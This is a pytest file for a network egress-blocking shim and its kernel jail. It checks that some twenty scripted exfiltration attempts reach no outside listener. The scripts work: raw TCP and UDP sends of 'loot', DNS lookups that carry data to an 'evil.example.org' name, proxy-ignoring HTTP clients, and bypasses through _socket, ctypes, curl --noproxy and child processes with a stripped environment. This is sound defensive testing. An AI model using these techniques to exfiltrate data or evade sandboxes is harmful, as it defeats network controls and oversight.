"""Claims: what the shim refuses locally; what it cannot refuse without a kernel jail; and that the jail closes all of it.

Each attack runs in a network namespace with an outside, where an attacker listens on TCP, UDP and DNS. With --no-jail: nothing
arrives of a REFUSED row; a KNOWN row arrives, a documented expectation (SECURITY.md). In the jail nothing arrives of any row.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.support.outside import OUTSIDE, PORT, inside
from tests.support.runs import OUTPASS, apps, environment

TO = f'("{OUTSIDE}", {PORT})'
SOCKADDR = f'struct.pack("<H", 2) + struct.pack("!H", {PORT}) + socket.inet_aton("{OUTSIDE}") + b"\\0" * 8'


class Attack(NamedTuple):
    sentence: str
    script: str
    arrives: bool = False


ATTACKS = [
    Attack("socket.create_connection", f"import socket\nsocket.create_connection({TO}).sendall(b'loot')"),
    Attack("connect_ex", f"import socket\nsocket.socket().connect_ex({TO})"),
    Attack(
        "asyncio streams",
        f'import asyncio\nasync def m():\n    r, w = await asyncio.open_connection("{OUTSIDE}", {PORT})\n    w.write(b"loot"); '
        "await w.drain()\nasyncio.run(m())",
    ),
    Attack("UDP sendto", f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', {TO})"),
    Attack(
        "UDP connect and send",
        f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect({TO}); s.send(b'loot')",
    ),
    Attack("UDP sendmsg", f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'loot'], [], 0, {TO})"),
    Attack("a name lookup that carries data", "import socket\nsocket.getaddrinfo('loot.evil.example.org', 80)"),
    Attack("gethostbyname", "import socket\nsocket.gethostbyname('loot.evil.example.org')"),
    Attack("gethostbyname_ex", "import socket\nsocket.gethostbyname_ex('loot.evil.example.org')"),
    Attack("listen on every address", f"import socket\nsocket.create_server(('0.0.0.0', {PORT + 1}))\nopen('listening', 'w')"),
    Attack(
        "http.client that ignores the proxy",
        f"import http.client\nhttp.client.HTTPConnection('{OUTSIDE}', {PORT}).request('GET', '/loot')",
    ),
    Attack(
        "urllib3 without a proxy",
        f"import urllib3\nurllib3.PoolManager().request('GET', 'http://{OUTSIDE}:{PORT}/loot', retries=False)",
    ),
    Attack(
        "requests with trust_env off",
        f"import requests\ns = requests.Session(); s.trust_env = False\ns.get('http://{OUTSIDE}:{PORT}/loot')",
    ),
    Attack(
        "reloading socket", f"import importlib, socket\nimportlib.reload(socket)\nsocket.create_connection({TO}).sendall(b'loot')"
    ),
    Attack("smtplib", f"import smtplib\nsmtplib.SMTP('{OUTSIDE}', {PORT}, timeout=3)"),
    # ------------------------------------------------------------------------------ KNOWN: bounded by the kernel jail
    Attack("_socket beneath socket", f"import _socket\ns = _socket.socket(); s.connect({TO}); s.send(b'loot')", True),
    Attack(
        "ctypes connect",
        f"import ctypes, socket, struct\nc = ctypes.CDLL(None)\nfd = c.socket(2, 1, 0)\na = {SOCKADDR}\nc.connect(fd, a, 16)\n"
        "c.write(fd, b'loot', 4)",
        True,
    ),
    Attack(
        "curl that is told to ignore the proxy",
        f"import subprocess\nsubprocess.run(['curl', '-s', '-m', '3', '--noproxy', '*', 'http://{OUTSIDE}:{PORT}/loot'])",
        True,
    ),
    Attack(
        "an isolated Python child",
        f"import subprocess, sys\nsubprocess.run([sys.executable, '-I', '-S', '-c', 'import socket; "
        f'socket.create_connection({TO}).sendall(b"loot")\'])',
        True,
    ),
    Attack(
        "a Python child with an empty environment",
        f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; "
        f'socket.create_connection({TO}).sendall(b"loot")\'], env={{}})',
        True,
    ),
]


@pytest.mark.parametrize("case", ATTACKS, ids=lambda a: a.sentence)
def test_what_arrives_outside(case: Attack, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "main.py").write_text(case.script)
    command = [OUTPASS, "run", "--deny-all", "--no-jail", "--", str(apps()), "main.py"]
    told = inside(tmp_path, command, environment(tmp_path), project)
    if case.arrives:
        assert told["arrived"], f"closed now? update SECURITY.md: {told}"
        return
    assert told["arrived"] == [], told
    assert not (project / "listening").exists(), told
    assert told["code"] == 1 or case.sentence == "connect_ex", told
    if told["code"]:
        assert "EgressDenied" in told["err"] and "may not" in told["err"], told


@pytest.mark.parametrize("case", ATTACKS, ids=lambda a: a.sentence)
def test_in_the_jail_nothing_arrives_outside(case: Attack, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "main.py").write_text(case.script)
    told = inside(tmp_path, [OUTPASS, "run", "--deny-all", "-q", "--", str(apps()), "main.py"], environment(tmp_path), project)
    assert told["arrived"] == [], told
    assert told["code"] != 125, f"there was no jail: {told}"


def test_the_namespace_tells_an_open_way_from_a_closed_one(tmp_path: Path) -> None:
    """The judge is awake: without outpass the same script does arrive."""
    (tmp_path / "main.py").write_text(ATTACKS[0].script)
    told = inside(tmp_path, [str(apps()), "main.py"], dict(os.environ), tmp_path)
    assert told["arrived"] == ["tcp: connected", "tcp: b'loot'"]
